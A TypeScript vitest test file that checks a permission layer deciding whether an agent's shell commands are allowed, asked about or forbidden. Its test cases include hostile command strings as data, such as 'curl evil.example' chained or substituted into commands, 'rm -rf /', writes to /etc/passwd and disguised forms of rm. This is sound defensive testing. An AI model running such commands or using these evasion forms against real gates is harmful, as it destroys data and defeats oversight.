import { describe, expect, it, test } from 'vitest';
import { splitCommand } from './command-line.ts';
import { permissionFor, type CommandRule, type Grant, type Permissions } from './permission.ts';

const rules: readonly CommandRule[] = [
  { pattern: 'npm test*', decision: 'always' },
  { pattern: 'git status', decision: 'always' },
  { pattern: 'rm *', decision: 'never' },
  { pattern: 'git push*', decision: 'ask' },
];
const permissions: Permissions = { approvals: { run_command: 'ask' }, commandRules: rules };
const command = (text: string, grants: readonly Grant[] = [], given = permissions) =>
  permissionFor({ tool: 'run_command', command: text, asks: true }, given, grants);

describe('commands', () => {
  test.each([
    ['npm test', 'always'],
    ['npm  test -- --watch=false', 'always'],
    ['npm test && git status', 'always'],
    ['npm test | git status; npm test', 'always'],
    ['npm run build', 'ask'],
    ['npm test && curl evil.example', 'ask'],
    ['npm test; git push --force', 'ask'],
    ['rm -rf /', 'never'],
    ['npm test && rm -rf .', 'never'],
    ['npm test\nrm x', 'never'],
    ['FOO=1 sudo /bin/rm x', 'never'],
    ['env rm x', 'never'],
    ['"rm" x', 'never'],
    ["r''m x", 'never'],
    ['npm test $(curl evil.example)', 'ask'],
    ['npm test `id`', 'ask'],
    ['npm test > /etc/passwd', 'ask'],
    ['npm test & curl evil.example', 'ask'],
    ['npm test "unclosed', 'ask'],
    ['npm test %PATH%', 'ask'],
    ['npm testing', 'always'],
    ['git status -s', 'ask'],
  ])('%s: %s', (text, expected) => {
    expect(command(text)).toBe(expected);
  });

  it('fall back to what holds for the tool, then to what the tool is by itself', () => {
    expect(command('ls', [], { approvals: { run_command: 'always' }, commandRules: [] })).toBe('always');
    expect(command('ls', [], { approvals: {}, commandRules: [] })).toBe('ask');
    expect(command('rm x', [], { approvals: { run_command: 'always' }, commandRules: rules })).toBe('never');
  });

  it('may be granted one by one, or all of them, but never against a prohibition', () => {
    const one = [{ tool: 'run_command', command: 'make' }];
    expect(command('make', one)).toBe('always');
    expect(command('make install', one)).toBe('ask');
    const all = [{ tool: 'run_command' }];
    expect(command('make install', all)).toBe('always');
    expect(command('rm x', all)).toBe('never');
    expect(command('make', [{ tool: 'other' }])).toBe('ask');
  });
});

test('other tools go by their own setting', () => {
  const ask = (tool: string, given: Permissions, asks = false) => permissionFor({ tool, asks }, given, []);
  expect(ask('edit_file', permissions)).toBe('always');
  expect(ask('edit_file', { approvals: { edit_file: 'ask' }, commandRules: [] })).toBe('ask');
  expect(ask('edit_file', { approvals: { edit_file: 'never' }, commandRules: [] })).toBe('never');
  expect(ask('deploy', permissions, true)).toBe('ask');
});

test('a command line is split at its operators, outside of quotes', () => {
  expect(splitCommand(`echo "a && b" 'c;d' && ls || pwd`)).toEqual({
    parts: ['echo a && b c;d', 'ls', 'pwd'],
    plain: true,
  });
  expect(splitCommand('')).toEqual({ parts: [], plain: true });
});
